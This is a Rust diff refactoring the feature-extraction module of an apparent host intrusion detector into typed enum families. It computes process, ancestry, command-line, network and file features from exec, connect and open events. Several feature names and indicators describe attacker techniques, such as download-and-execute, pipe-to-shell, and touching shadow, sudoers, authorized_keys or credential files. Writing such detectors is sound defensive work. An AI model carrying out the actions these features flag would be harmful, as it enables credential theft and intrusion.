@@ -1,175 +1,347 @@
 //! Feature extraction: one fixed-length vector per event, from the event and
 //! the host's recent history (see [`crate::state`]).
 //!
-//! Families, in vector order: event kind; identity; the program's and its
-//! parent's families; process placement; process ancestry; command-line
-//! indicators and shape (for connect and open events: those of the process's
-//! exec); network; temporal; file integrity. [`names`] lists every feature.
+//! Every feature is declared once, as a variant of its family's enum (the
+//! [`family!`] declarations below): the variant's name string is the
+//! feature's name and its position, after the family's offset in [`at`], is
+//! its slot. Writers and readers name the variant (`File::Shadow`), never an
+//! offset, so a feature cannot be written into its neighbour's slot, and
+//! reordering a declaration reorders names and slots together (a model
+//! trained on the old order is then refused by [`crate::load_checked`]).
+//! [`Feature::at`] turns a slot back into its typed feature for the
+//! explanations.
+//!
+//! Families, in vector order: event kind and identity ([`Head`]); the
+//! program's and its parent's families ([`FAMILIES`]); placement
+//! ([`Placement`]); ancestry ([`Ancestry`]); command-line indicators
+//! ([`INDICATORS`]), shape ([`CmdShape`]) and derived facts ([`CmdDerived`])
+//! — for connect and open events those of the process's exec; network
+//! ([`Net`]); temporal ([`Temporal`]); file integrity ([`File`]). [`names`]
+//! lists every feature.
 
 use std::net::IpAddr;
 use std::sync::LazyLock;
 
-use outlier_proto::v1::{Event, event::Detail};
+use outlier_proto::facts::{AddrClass, OpenMode, UidClass, oflags};
+use outlier_proto::v1::{Connect, Event, Open, event::Detail};
 
-use crate::lexicon::{self, FAMILIES, Family, INDICATORS, MATCHER};
+use crate::lexicon::{self, FAMILIES, Family, INDICATORS, MATCHER, indicator};
 use crate::state::{HostState, Limits, Proc, Seen, TwoGen};
 
-/// Numeric command-line shape features.
-pub const CMD_NUMERIC: usize = 12;
-const CMD_NUMERIC_NAMES: [&str; CMD_NUMERIC] = [
-    "cmd_argc",
-    "cmd_len_log2",
-    "cmd_max_token_len",
-    "cmd_entropy",
-    "cmd_nonalnum_ratio",
-    "cmd_digit_ratio",
-    "cmd_upper_ratio",
-    "cmd_quotes",
-    "cmd_pipes",
-    "cmd_separators",
-    "cmd_substitutions",
-    "cmd_redirects",
-];
+/// Declares one family of features: an enum whose variants are the
+/// features, each with its name; the family's slots start at `$at`.
+macro_rules! family {
+    ($(#[$doc:meta])* $ty:ident at $at:expr; { $($var:ident = $name:literal,)+ }) => {
+        $(#[$doc])*
+        #[derive(Debug, Clone, Copy, PartialEq, Eq)]
+        pub enum $ty { $($var),+ }
+        impl $ty {
+            /// The family's features, in slot order.
+            pub const ALL: &[$ty] = &[$($ty::$var),+];
+            /// Their names, in slot order.
+            pub const NAMES: &[&str] = &[$($name),+];
+            /// How many there are.
+            pub const LEN: usize = Self::ALL.len();
+            /// The slot in the feature vector.
+            pub const fn slot(self) -> usize {
+                $at + self as usize
+            }
+            /// The feature's name.
+            pub const fn name(self) -> &'static str {
+                Self::NAMES[self as usize]
+            }
+        }
+    };
+}
 
-const HEAD: &[&str] = &[
-    "kind_exec",
-    "kind_connect",
-    "kind_open",
-    "uid_root",
-    "uid_service",
-    "uid_user",
-    "gid_root",
-    "uid_differs_from_parent",
-    "root_under_non_root_parent",
-];
+family! {
+    /// The event's kind and the identity it runs under.
+    Head at at::HEAD; {
+        KindExec = "kind_exec",
+        KindConnect = "kind_connect",
+        KindOpen = "kind_open",
+        UidRoot = "uid_root",
+        UidService = "uid_service",
+        UidUser = "uid_user",
+        GidRoot = "gid_root",
+        UidDiffersFromParent = "uid_differs_from_parent",
+        RootUnderNonRootParent = "root_under_non_root_parent",
+    }
+}
 
-const PROC_MISC: &[&str] = &[
-    "exe_in_tmp",
-    "exe_hidden",
-    "exe_nonstandard_dir",
-    "comm_exe_mismatch",
-    "comm_len",
-    "cwd_tmp",
-    "cwd_root",
-    "cwd_web_root",
-];
+family! {
+    /// Where the program lives and works.
+    Placement at at::PLACEMENT; {
+        ExeInTmp = "exe_in_tmp",
+        ExeHidden = "exe_hidden",
+        ExeNonstandardDir = "exe_nonstandard_dir",
+        CommExeMismatch = "comm_exe_mismatch",
+        CommLen = "comm_len",
+        CwdTmp = "cwd_tmp",
+        CwdRoot = "cwd_root",
+        CwdWebRoot = "cwd_web_root",
+    }
+}
 
-const ANCESTRY: &[&str] = &[
-    "ancestry_depth",
-    "ancestor_webserver",
-    "ancestor_database",
-    "ancestor_cron",
-    "ancestor_sshd",
-    "ancestor_ci",
-    "shells_in_chain",
-    "interpreters_in_chain",
-    "shell_under_service",
-    "shell_under_cron",
-];
+family! {
+    /// The process's ancestors, from the event and the host's process table.
+    Ancestry at at::ANCESTRY; {
+        Depth = "ancestry_depth",
+        WebServer = "ancestor_webserver",
+        Database = "ancestor_database",
+        Cron = "ancestor_cron",
+        Sshd = "ancestor_sshd",
+        Ci = "ancestor_ci",
+        Shells = "shells_in_chain",
+        Interpreters = "interpreters_in_chain",
+        ShellUnderService = "shell_under_service",
+        ShellUnderCron = "shell_under_cron",
+    }
+}
 
-const CMD_DERIVED: &[&str] = &[
-    "cmd_download_exec",
-    "cmd_ip_literal",
-    "cmd_port_literal",
-    "cmd_suspicious_port_literal",
-    "cmd_sudo_shell",
-];
+family! {
+    /// The shape of the command line (kept per process in the host's table,
+    /// so a connect or open carries its exec's).
+    CmdShape at at::CMD_SHAPE; {
+        Argc = "cmd_argc",
+        LenLog2 = "cmd_len_log2",
+        MaxTokenLen = "cmd_max_token_len",
+        Entropy = "cmd_entropy",
+        NonalnumRatio = "cmd_nonalnum_ratio",
+        DigitRatio = "cmd_digit_ratio",
+        UpperRatio = "cmd_upper_ratio",
+        Quotes = "cmd_quotes",
+        Pipes = "cmd_pipes",
+        Separators = "cmd_separators",
+        Substitutions = "cmd_substitutions",
+        Redirects = "cmd_redirects",
+    }
+}
 
-const NETWORK: &[&str] = &[
-    "net_port_log2",
-    "net_port_common",
-    "net_port_suspicious",
-    "net_port_ephemeral",
-    "net_port_privileged",
-    "net_remote_private",
-    "net_remote_loopback",
-    "net_remote_public",
-    "net_ipv6",
-    "net_port_first_seen",
-    "net_remote_first_seen",
-    "net_port_seen_log2",
-    "net_remote_seen_log2",
-    "net_by_shell_or_interpreter",
-    "net_by_non_network_program",
-    "net_by_web_descendant",
-];
+family! {
+    /// Facts derived from the exec's command line and indicators.
+    CmdDerived at at::CMD_DERIVED; {
+        DownloadExec = "cmd_download_exec",
+        IpLiteral = "cmd_ip_literal",
+        PortLiteral = "cmd_port_literal",
+        SuspiciousPortLiteral = "cmd_suspicious_port_literal",
+        SudoShell = "cmd_sudo_shell",
+    }
+}
 
-const TEMPORAL: &[&str] = &[
-    "execs_1s",
-    "execs_10s",
-    "execs_60s",
-    "connects_60s",
-    "writes_60s",
-    "sensitive_reads_60s",
-    "program_first_seen",
-    "program_idle_log2s",
-    "parent_age_log2s",
-    "siblings_10s",
-];
+family! {
+    /// An outbound connection.
+    Net at at::NET; {
+        PortLog2 = "net_port_log2",
+        PortCommon = "net_port_common",
+        PortSuspicious = "net_port_suspicious",
+        PortEphemeral = "net_port_ephemeral",
+        PortPrivileged = "net_port_privileged",
+        RemotePrivate = "net_remote_private",
+        RemoteLoopback = "net_remote_loopback",
+        RemotePublic = "net_remote_public",
+        Ipv6 = "net_ipv6",
+        PortFirstSeen = "net_port_first_seen",
+        RemoteFirstSeen = "net_remote_first_seen",
+        PortSeenLog2 = "net_port_seen_log2",
+        RemoteSeenLog2 = "net_remote_seen_log2",
+        ByShellOrInterpreter = "net_by_shell_or_interpreter",
+        ByNonNetworkProgram = "net_by_non_network_program",
+        ByWebDescendant = "net_by_web_descendant",
+    }
+}
 
-const FILE: &[&str] = &[
-    "file_write",
-    "file_create",
-    "file_etc",
-    "file_cron",
-    "file_bin_dir",
-    "file_authorized_keys",
-    "file_ssh_dir",
-    "file_shadow",
-    "file_passwd",
-    "file_sudoers",
-    "file_systemd",
-    "file_tmp",
-    "file_hidden",
-    "file_ld_preload",
-    "file_proc",
-    "file_var_log",
-    "file_boot_modules",
-    "file_profile",
-    "file_credentials",
-    "file_web_root",
-    "file_dir_first_write",
-];
+family! {
+    /// What the host did recently.
+    Temporal at at::TEMPORAL; {
+        Execs1s = "execs_1s",
+        Execs10s = "execs_10s",
+        Execs60s = "execs_60s",
+        Connects60s = "connects_60s",
+        Writes60s = "writes_60s",
+        SensitiveReads60s = "sensitive_reads_60s",
+        ProgramFirstSeen = "program_first_seen",
+        ProgramIdleLog2s = "program_idle_log2s",
+        ParentAgeLog2s = "parent_age_log2s",
+        Siblings10s = "siblings_10s",
+    }
+}
 
-/// Offsets of the families in the vector.
+family! {
+    /// A file opened: how, and what it is.
+    File at at::FILE; {
+        Write = "file_write",
+        Create = "file_create",
+        Etc = "file_etc",
+        Cron = "file_cron",
+        BinDir = "file_bin_dir",
+        AuthorizedKeys = "file_authorized_keys",
+        SshDir = "file_ssh_dir",
+        Shadow = "file_shadow",
+        Passwd = "file_passwd",
+        Sudoers = "file_sudoers",
+        Systemd = "file_systemd",
+        Tmp = "file_tmp",
+        Hidden = "file_hidden",
+        LdPreload = "file_ld_preload",
+        Proc = "file_proc",
+        VarLog = "file_var_log",
+        BootModules = "file_boot_modules",
+        Profile = "file_profile",
+        Credentials = "file_credentials",
+        WebRoot = "file_web_root",
+        DirFirstWrite = "file_dir_first_write",
+    }
+}
+
+/// Offsets of the families in the vector, in vector order.
 pub mod at {
     use super::*;
     pub const HEAD: usize = 0;
-    pub const PROC_FAM: usize = HEAD + super::HEAD.len();
+    pub const PROC_FAM: usize = HEAD + Head::LEN;
     pub const PARENT_FAM: usize = PROC_FAM + FAMILIES.len();
-    pub const PROC_MISC: usize = PARENT_FAM + FAMILIES.len();
-    pub const ANCESTRY: usize = PROC_MISC + super::PROC_MISC.len();
-    pub const IND: usize = ANCESTRY + super::ANCESTRY.len();
-    pub const CMD_NUM: usize = IND + INDICATORS.len();
-    pub const CMD_DERIVED: usize = CMD_NUM + CMD_NUMERIC;
-    pub const NET: usize = CMD_DERIVED + super::CMD_DERIVED.len();
-    pub const TEMPORAL: usize = NET + super::NETWORK.len();
-    pub const FILE: usize = TEMPORAL + super::TEMPORAL.len();
-    pub const END: usize = FILE + super::FILE.len();
+    pub const PLACEMENT: usize = PARENT_FAM + FAMILIES.len();
+    pub const ANCESTRY: usize = PLACEMENT + Placement::LEN;
+    pub const IND: usize = ANCESTRY + Ancestry::LEN;
+    pub const CMD_SHAPE: usize = IND + INDICATORS.len();
+    pub const CMD_DERIVED: usize = CMD_SHAPE + CmdShape::LEN;
+    pub const NET: usize = CMD_DERIVED + CmdDerived::LEN;
+    pub const TEMPORAL: usize = NET + Net::LEN;
+    pub const FILE: usize = TEMPORAL + Temporal::LEN;
+    pub const END: usize = FILE + File::LEN;
 }
 
 /// Length of the feature vector.
 pub const N_FEATURES: usize = at::END;
 
+/// What one slot of the vector holds.
+#[derive(Debug, Clone, Copy, PartialEq, Eq)]
+pub enum Feature {
+    Head(Head),
+    /// The program is of this family.
+    ProcFamily(Family),
+    /// Its parent is of this family.
+    ParentFamily(Family),
+    Placement(Placement),
+    Ancestry(Ancestry),
+    /// An index into [`INDICATORS`].
+    Indicator(usize),
+    CmdShape(CmdShape),
+    CmdDerived(CmdDerived),
+    Net(Net),
+    Temporal(Temporal),
+    File(File),
+}
+
+impl Feature {
+    /// The feature in `slot`; `None` past the end of the vector.
+    pub fn at(slot: usize) -> Option<Feature> {
+        fn pick<T: Copy>(all: &[T], start: usize, slot: usize) -> Option<T> {
+            slot.checked_sub(start).and_then(|i| all.get(i).copied())
+        }
+        Some(match slot {
+            s if s < at::PROC_FAM => Feature::Head(pick(Head::ALL, at::HEAD, s)?),
+            s if s < at::PARENT_FAM => Feature::ProcFamily(pick(&FAMILIES, at::PROC_FAM, s)?),
+            s if s < at::PLACEMENT => Feature::ParentFamily(pick(&FAMILIES, at::PARENT_FAM, s)?),
+            s if s < at::ANCESTRY => Feature::Placement(pick(Placement::ALL, at::PLACEMENT, s)?),
+            s if s < at::IND => Feature::Ancestry(pick(Ancestry::ALL, at::ANCESTRY, s)?),
+            s if s < at::CMD_SHAPE => Feature::Indicator(s - at::IND),
+            s if s < at::CMD_DERIVED => Feature::CmdShape(pick(CmdShape::ALL, at::CMD_SHAPE, s)?),
+            s if s < at::NET => Feature::CmdDerived(pick(CmdDerived::ALL, at::CMD_DERIVED, s)?),
+            s if s < at::TEMPORAL => Feature::Net(pick(Net::ALL, at::NET, s)?),
+            s if s < at::FILE => Feature::Temporal(pick(Temporal::ALL, at::TEMPORAL, s)?),
+            s => Feature::File(pick(File::ALL, at::FILE, s)?),
+        })
+    }
+
+    /// The feature's slot in the vector.
+    pub fn slot(self) -> usize {
+        match self {
+            Feature::Head(f) => f.slot(),
+            Feature::ProcFamily(f) => at::PROC_FAM + family_index(f),
+            Feature::ParentFamily(f) => at::PARENT_FAM + family_index(f),
+            Feature::Placement(f) => f.slot(),
+            Feature::Ancestry(f) => f.slot(),
+            Feature::Indicator(i) => at::IND + i,
+            Feature::CmdShape(f) => f.slot(),
+            Feature::CmdDerived(f) => f.slot(),
+            Feature::Net(f) => f.slot(),
+            Feature::Temporal(f) => f.slot(),
+            Feature::File(f) => f.slot(),
+        }
+    }
+
+    /// The feature's name, as model files list it.
+    pub fn name(self) -> String {
+        match self {
+            Feature::Head(f) => f.name().into(),
+            Feature::ProcFamily(f) => format!("proc_{}", f.name()),
+            Feature::ParentFamily(f) => format!("parent_{}", f.name()),
+            Feature::Placement(f) => f.name().into(),
+            Feature::Ancestry(f) => f.name().into(),
+            Feature::Indicator(i) => INDICATORS[i].name.into(),
+            Feature::CmdShape(f) => f.name().into(),
+            Feature::CmdDerived(f) => f.name().into(),
+            Feature::Net(f) => f.name().into(),
+            Feature::Temporal(f) => f.name().into(),
+            Feature::File(f) => f.name().into(),
+        }
+    }
+}
+
 static NAMES: LazyLock<Vec<String>> = LazyLock::new(|| {
-    let mut v: Vec<String> = HEAD.iter().map(|s| s.to_string()).collect();
-    v.extend(FAMILIES.iter().map(|f| format!("proc_{}", f.name())));
-    v.extend(FAMILIES.iter().map(|f| format!("parent_{}", f.name())));
-    v.extend(PROC_MISC.iter().map(|s| s.to_string()));
-    v.extend(ANCESTRY.iter().map(|s| s.to_string()));
-    v.extend(INDICATORS.iter().map(|i| i.name.to_string()));
-    v.extend(CMD_NUMERIC_NAMES.iter().map(|s| s.to_string()));
-    v.extend(CMD_DERIVED.iter().map(|s| s.to_string()));
-    v.extend(NETWORK.iter().map(|s| s.to_string()));
-    v.extend(TEMPORAL.iter().map(|s| s.to_string()));
-    v.extend(FILE.iter().map(|s| s.to_string()));
-    assert_eq!(v.len(), N_FEATURES);
-    v
+    (0..N_FEATURES)
+        .map(|s| Feature::at(s).expect("a slot below N_FEATURES").name())
+        .collect()
 });
 
 /// Every feature's name, in vector order.
 pub fn names() -> &'static [String] {
     &NAMES
+}
+
+/// A feature vector being filled: written by feature, never by offset.
+struct Vector([f32; N_FEATURES]);
+
+impl Vector {
+    fn set(&mut self, f: impl Into<Feature>, x: f32) {
+        self.0[f.into().slot()] = x;
+    }
+
+    fn flag(&mut self, f: impl Into<Feature>, b: bool) {
+        self.set(f, flag(b));
+    }
+
+    fn get(&self, f: impl Into<Feature>) -> f32 {
+        self.0[f.into().slot()]
+    }
+}
+
+macro_rules! into_feature {
+    ($($ty:ident),+) => {
+        $(impl From<$ty> for Feature {
+            fn from(f: $ty) -> Feature {
+                Feature::$ty(f)
+            }
+        })+
+    };
+}
+into_feature!(
+    Head, Placement, Ancestry, CmdShape, CmdDerived, Net, Temporal, File
+);
+
+// FAMILIES lists the families in declaration order, so a family's
+// discriminant is its index.
+const _: () = {
+    let mut i = 0;
+    while i < FAMILIES.len() {
+        assert!(FAMILIES[i] as usize == i);
+        i += 1;
+    }
+};
+
+fn family_index(f: Family) -> usize {
+    f as usize
 }
 
 /// What an explanation sentence may refer to.
@@ -189,6 +361,13 @@ pub struct Context {
 pub struct Features {
     pub values: [f32; N_FEATURES],
     pub context: Context,
+}
+
+impl Features {
+    /// The value of one feature.
+    pub fn get(&self, f: impl Into<Feature>) -> f32 {
+        self.values[f.into().slot()]
+    }
 }
 
 const COMMON_PORTS: &[u32] = &[
@@ -223,8 +402,12 @@ fn flag(b: bool) -> f32 {
     if b { 1.0 } else { 0.0 }
 }
 
+fn in_tmp(p: &str) -> bool {
+    p.starts_with("/tmp") || p.starts_with("/dev/shm") || p.starts_with("/var/tmp")
+}
+
 /// Shape of a command line.
-fn cmd_numeric(argv: &[String], line: &str) -> [f32; CMD_NUMERIC] {
+fn cmd_shape(argv: &[String], line: &str) -> [f32; CmdShape::LEN] {
     let mut counts = [0u32; 256];
     let (mut alnum, mut digit, mut upper) = (0u32, 0u32, 0u32);
     for &b in line.as_bytes() {
@@ -249,20 +432,27 @@ fn cmd_numeric(argv: &[String], line: &str) -> [f32; CMD_NUMERIC] {
         .map(str::len)
         .max()
         .unwrap_or(0);
-    [
-        argv.len() as f32,
-        log2p(line.len() as f64),
-        max_token.min(4096) as f32,
-        entropy as f32,
-        1.0 - (f64::from(alnum) / n) as f32,
-        (f64::from(digit) / n) as f32,
-        (f64::from(upper) / n) as f32,
-        c(b'\'') + c(b'"'),
-        c(b'|'),
+    let mut s = [0f32; CmdShape::LEN];
+    let mut set = |f: CmdShape, x: f32| s[f as usize] = x;
+    set(CmdShape::Argc, argv.len() as f32);
+    set(CmdShape::LenLog2, log2p(line.len() as f64));
+    set(CmdShape::MaxTokenLen, max_token.min(4096) as f32);
+    set(CmdShape::Entropy, entropy as f32);
+    set(CmdShape::NonalnumRatio, 1.0 - (f64::from(alnum) / n) as f32);
+    set(CmdShape::DigitRatio, (f64::from(digit) / n) as f32);
+    set(CmdShape::UpperRatio, (f64::from(upper) / n) as f32);
+    set(CmdShape::Quotes, c(b'\'') + c(b'"'));
+    set(CmdShape::Pipes, c(b'|'));
+    set(
+        CmdShape::Separators,
         c(b';') + line.matches("&&").count() as f32,
+    );
+    set(
+        CmdShape::Substitutions,
         line.matches("$(").count() as f32 + c(b'`'),
-        c(b'>') + c(b'<'),
-    ]
+    );
+    set(CmdShape::Redirects, c(b'>') + c(b'<'));
+    s
 }
 
 fn is_ip_literal(tok: &str) -> bool {
@@ -327,74 +517,168 @@ impl Extractor {
     }
 }
 
+/// The process behind an event and its parent, as the event and the host's
+/// process table know them.
+struct Subject {
+    /// The table's entry for the process (connect and open events only: an
+    /// exec starts a new image).
+    known: Option<Proc>,
+    comm: String,
+    ppid: u32,
+    parent: Option<Proc>,
+    parent_comm: String,
+    /// Family bit sets of the program and its parent.
+    fam: u32,
+    pfam: u32,
+}
+
+impl Subject {
+    fn of(h: &HostState, ev: &Event, is_exec: bool) -> Subject {
+        let known = if is_exec {
+            None
+        } else {
+            h.procs.get(&ev.pid).cloned()
+        };
+        // For an open or a connect the kernel names the calling thread, and
+        // threads name themselves: the executable's name then (`program_name`).
+        let comm = if ev.comm.is_empty() {
+            known.as_ref().map(|p| p.comm.clone()).unwrap_or_default()
+        } else {
+            ev.program_name().to_string()
+        };
+        let ppid = if ev.ppid != 0 {
+            ev.ppid
+        } else {
+            known.as_ref().map_or(0, |p| p.ppid)
+        };
+        let parent = h.procs.get(&ppid).cloned();
+        let parent_comm = if ev.parent_comm.is_empty() {
+            parent.as_ref().map(|p| p.comm.clone()).unwrap_or_default()
+        } else {
+            ev.parent_comm.clone()
+        };
+        let fam = lexicon::families(&comm);
+        let pfam = lexicon::families(&parent_comm);
+        Subject {
+            known,
+            comm,
+            ppid,
+            parent,
+            parent_comm,
+            fam,
+            pfam,
+        }
+    }
+
+    /// A shell or an interpreter.
+    fn shellish(&self) -> bool {
+        lexicon::has(self.fam, Family::Shell) || lexicon::has(self.fam, Family::Interpreter)
+    }
+}
+
+/// The command line behind an event: the exec's own, or (connect, open)
+/// what the process table kept of the process's exec.
+struct CommandLine {
+    indicators: u64,
+    shape: [f32; CmdShape::LEN],
+    /// The text itself; empty for connect and open events.
+    line: String,
+}
+
+impl CommandLine {
+    fn has(&self, indicator: usize) -> bool {
+        self.indicators & (1 << indicator) != 0
+    }
+}
+
 fn extract(h: &mut HostState, l: &Limits, ev: &Event) -> Features {
-    let mut v = [0f32; N_FEATURES];
+    let mut v = Vector([0f32; N_FEATURES]);
     let now = ev.ts_ns;
     h.events += 1;
-    let (is_exec, is_connect, is_open) = match &ev.detail {
-        Some(Detail::Exec(_)) => (true, false, false),
-        Some(Detail::Connect(_)) => (false, true, false),
-        Some(Detail::Open(_)) => (false, false, true),
-        None => (false, false, false),
+    let is_exec = matches!(ev.detail, Some(Detail::Exec(_)));
+    v.flag(Head::KindExec, is_exec);
+    v.flag(
+        Head::KindConnect,
+        matches!(ev.detail, Some(Detail::Connect(_))),
+    );
+    v.flag(Head::KindOpen, matches!(ev.detail, Some(Detail::Open(_))));
+    let who = Subject::of(h, ev, is_exec);
+    let mut ctx = Context {
+        comm: who.comm.clone(),
+        parent_comm: who.parent_comm.clone(),
+        ..Context::default()
     };
-    v[0] = flag(is_exec);
-    v[1] = flag(is_connect);
-    v[2] = flag(is_open);
-
-    // The process: for an exec the new image; otherwise what the table knows.
-    let known = if is_exec {
-        None
-    } else {
-        h.procs.get(&ev.pid).cloned()
-    };
-    // For an open or a connect the kernel names the calling thread, and
-    // threads name themselves: the executable's name then (`program_name`).
-    let comm = if ev.comm.is_empty() {
-        known.as_ref().map(|p| p.comm.clone()).unwrap_or_default()
-    } else {
-        ev.program_name().to_string()
-    };
-    let ppid = if ev.ppid != 0 {
-        ev.ppid
-    } else {
-        known.as_ref().map_or(0, |p| p.ppid)
-    };
-    let parent = h.procs.get(&ppid).cloned();
-    let parent_comm = if ev.parent_comm.is_empty() {
-        parent.as_ref().map(|p| p.comm.clone()).unwrap_or_default()
-    } else {
-        ev.parent_comm.clone()
-    };
-    let fam = lexicon::families(&comm);
-    let pfam = lexicon::families(&parent_comm);
-
-    // Identity.
-    v[3] = flag(ev.uid == 0);
-    v[4] = flag(ev.uid > 0 && ev.uid < 1000);
-    v[5] = flag(ev.uid >= 1000 && ev.uid != 65534);
-    v[6] = flag(ev.gid == 0 && ev.uid != 0);
-    if let Some(p) = &parent {
-        v[7] = flag(p.uid != ev.uid);
-        v[8] = flag(ev.uid == 0 && p.uid != 0);
+    identity(&mut v, ev, &who);
+    for f in FAMILIES {
+        v.flag(Feature::ProcFamily(f), lexicon::has(who.fam, f));
+        v.flag(Feature::ParentFamily(f), lexicon::has(who.pfam, f));
     }
-    for (i, f) in FAMILIES.iter().enumerate() {
-        v[at::PROC_FAM + i] = flag(lexicon::has(fam, *f));
-        v[at::PARENT_FAM + i] = flag(lexicon::has(pfam, *f));
+    placement(&mut v, ev, &who);
+    let ancestors = ancestry(&mut v, h, &who, &mut ctx);
+    let cmd = command_line(&mut v, ev, &who);
+    if let Some(Detail::Connect(c)) = &ev.detail {
+        network(&mut v, h, l, ev, c, &who, ancestors, &mut ctx);
+    }
+    // The host's recent activity counts this event's connection but not
+    // its file write.
+    let program = fnv(&[who.comm.as_bytes(), ev.exe.as_bytes()]);
+    temporal(&mut v, h, now, program, &who);
+    if let Some(Detail::Open(o)) = &ev.detail {
+        file(&mut v, h, l, o, now, &mut ctx);
     }
 
-    // Placement of the program.
+    // Take the event in.
+    bump_u64(&mut h.programs, program, now);
+    if is_exec {
+        h.execs.push(now, l.window);
+        let window = l.window;
+        h.children
+            .entry(who.ppid, Default::default)
+            .push(now, window.min(64));
+        h.procs.insert(
+            ev.pid,
+            Proc {
+                ppid: who.ppid,
+                comm: who.comm,
+                parent_comm: who.parent_comm,
+                uid: ev.uid,
+                start_ns: now,
+                families: who.fam,
+                indicators: cmd.indicators,
+                cmd_shape: cmd.shape,
+                connected: false,
+            },
+        );
+    }
+    Features {
+        values: v.0,
+        context: ctx,
+    }
+}
+
+fn identity(v: &mut Vector, ev: &Event, who: &Subject) {
+    let uid = UidClass::of(ev.uid);
+    v.flag(Head::UidRoot, uid == UidClass::Root);
+    v.flag(Head::UidService, uid == UidClass::System);
+    v.flag(Head::UidUser, uid == UidClass::User);
+    v.flag(Head::GidRoot, ev.gid == 0 && ev.uid != 0);
+    if let Some(p) = &who.parent {
+        v.flag(Head::UidDiffersFromParent, p.uid != ev.uid);
+        v.flag(Head::RootUnderNonRootParent, ev.uid == 0 && p.uid != 0);
+    }
+}
+
+fn placement(v: &mut Vector, ev: &Event, who: &Subject) {
     let exe = ev.exe.as_str();
     let exe_dir = exe.rsplit_once('/').map_or("", |(d, _)| d);
-    let in_tmp =
-        |p: &str| p.starts_with("/tmp") || p.starts_with("/dev/shm") || p.starts_with("/var/tmp");
     let cwd = match &ev.detail {
         Some(Detail::Exec(x)) => x.cwd.as_str(),
         _ => "",
     };
-    let m = at::PROC_MISC;
-    v[m] = flag(in_tmp(exe));
-    v[m + 1] = flag(exe.contains("/."));
-    v[m + 2] = flag(
+    v.flag(Placement::ExeInTmp, in_tmp(exe));
+    v.flag(Placement::ExeHidden, exe.contains("/."));
+    v.flag(
+        Placement::ExeNonstandardDir,
         !exe.is_empty()
             && !matches!(
                 exe_dir,
@@ -404,23 +688,33 @@ fn extract(h: &mut HostState, l: &Limits, ev: &Event) -> Features {
             && !exe_dir.starts_with("/opt"),
     );
     let exe_base = exe.rsplit('/').next().unwrap_or(exe);
-    v[m + 3] = flag(
-        !exe.is_empty() && !comm.is_empty() && !exe_base.starts_with(comm.trim_start_matches('-')),
+    v.flag(
+        Placement::CommExeMismatch,
+        !exe.is_empty()
+            && !who.comm.is_empty()
+            && !exe_base.starts_with(who.comm.trim_start_matches('-')),
     );
-    v[m + 4] = comm.len() as f32;
-    v[m + 5] = flag(in_tmp(cwd));
-    v[m + 6] = flag(cwd == "/");
-    v[m + 7] = flag(cwd.starts_with("/var/www") || cwd.starts_with("/srv/www"));
+    v.set(Placement::CommLen, who.comm.len() as f32);
+    v.flag(Placement::CwdTmp, in_tmp(cwd));
+    v.flag(Placement::CwdRoot, cwd == "/");
+    v.flag(
+        Placement::CwdWebRoot,
+        cwd.starts_with("/var/www") || cwd.starts_with("/srv/www"),
+    );
+}
 
-    // Ancestry: the parent named by the event, then the table's chain.
-    let mut ctx = Context {
-        comm: comm.clone(),
-        parent_comm: parent_comm.clone(),
-        ..Context::default()
-    };
+/// Ancestry: the parent named by the event, then the table's chain; where
+/// the table ends, the last known process's parent name still counts as one
+/// more ancestor.
+/// Returns the bit set of every ancestor's families.
+fn ancestry(v: &mut Vector, h: &HostState, who: &Subject, ctx: &mut Context) -> u32 {
     let (mut depth, mut shells, mut interps) = (0u32, 0u32, 0u32);
     let mut anc = 0u32;
-    let note = |c: &str, fams: u32, ctx: &mut Context| {
+    let mut note = |c: &str, fams: u32, ctx: &mut Context| {
+        depth += 1;
+        anc |= fams;
+        shells += u32::from(lexicon::has(fams, Family::Shell));
+        interps += u32::from(lexicon::has(fams, Family::Interpreter));
         if ctx.service_ancestor.is_empty()
             && [
                 Family::WebServer,
@@ -435,16 +729,10 @@ fn extract(h: &mut HostState, l: &Limits, ev: &Event) -> Features {
             ctx.service_ancestor = c.to_string();
         }
     };
-    if !parent_comm.is_empty() {
-        depth += 1;
-        anc |= pfam;
-        shells += u32::from(lexicon::has(pfam, Family::Shell));
-        interps += u32::from(lexicon::has(pfam, Family::Interpreter));
-        note(&parent_comm, pfam, &mut ctx);
+    if !who.parent_comm.is_empty() {
+        note(&who.parent_comm, who.pfam, ctx);
     }
-    // Walk up the table; where it ends, the last known process's parent
-    // name still counts as one more ancestor.
-    let mut cur = parent.clone();
+    let mut cur = who.parent.clone();
     let mut hops = 0;
     while let Some(p) = cur.take() {
         if hops >= 16 {
@@ -461,57 +749,72 @@ fn extract(h: &mut HostState, l: &Limits, ev: &Event) -> Features {
             }
             None => break,
         };
-        depth += 1;
-        anc |= fams;
-        shells += u32::from(lexicon::has(fams, Family::Shell));
-        interps += u32::from(lexicon::has(fams, Family::Interpreter));
-        note(&c, fams, &mut ctx);
+        note(&c, fams, ctx);
     }
-    let shellish = lexicon::has(fam, Family::Shell) || lexicon::has(fam, Family::Interpreter);
-    let a = at::ANCESTRY;
-    v[a] = depth as f32;
-    v[a + 1] = flag(lexicon::has(anc, Family::WebServer));
-    v[a + 2] = flag(lexicon::has(anc, Family::Database));
-    v[a + 3] = flag(lexicon::has(anc, Family::Cron));
-    v[a + 4] = flag(lexicon::has(anc, Family::Sshd));
-    v[a + 5] = flag(lexicon::has(anc, Family::CiRunner));
-    v[a + 6] = shells as f32;
-    v[a + 7] = interps as f32;
-    v[a + 8] = flag(
-        (shellish || shells > 0)
-            && (lexicon::has(anc, Family::WebServer) || lexicon::has(anc, Family::Database)),
+    let shellish = who.shellish() || shells > 0;
+    v.set(Ancestry::Depth, depth as f32);
+    v.flag(Ancestry::WebServer, lexicon::has(anc, Family::WebServer));
+    v.flag(Ancestry::Database, lexicon::has(anc, Family::Database));
+    v.flag(Ancestry::Cron, lexicon::has(anc, Family::Cron));
+    v.flag(Ancestry::Sshd, lexicon::has(anc, Family::Sshd));
+    v.flag(Ancestry::Ci, lexicon::has(anc, Family::CiRunner));
+    v.set(Ancestry::Shells, shells as f32);
+    v.set(Ancestry::Interpreters, interps as f32);
+    v.flag(
+        Ancestry::ShellUnderService,
+        shellish && (lexicon::has(anc, Family::WebServer) || lexicon::has(anc, Family::Database)),
     );
-    v[a + 9] = flag((shellish || shells > 0) && lexicon::has(anc, Family::Cron));
+    v.flag(
+        Ancestry::ShellUnderCron,
+        shellish && lexicon::has(anc, Family::Cron),
+    );
+    anc
+}
 
-    // Command line: the exec's own, or that of the process behind the event.
-    let (indicators, numeric, line) = match &ev.detail {
+const DOWNLOADER: usize = indicator("cmd_downloader");
+const PIPE_TO_SHELL: usize = indicator("cmd_pipe_to_shell");
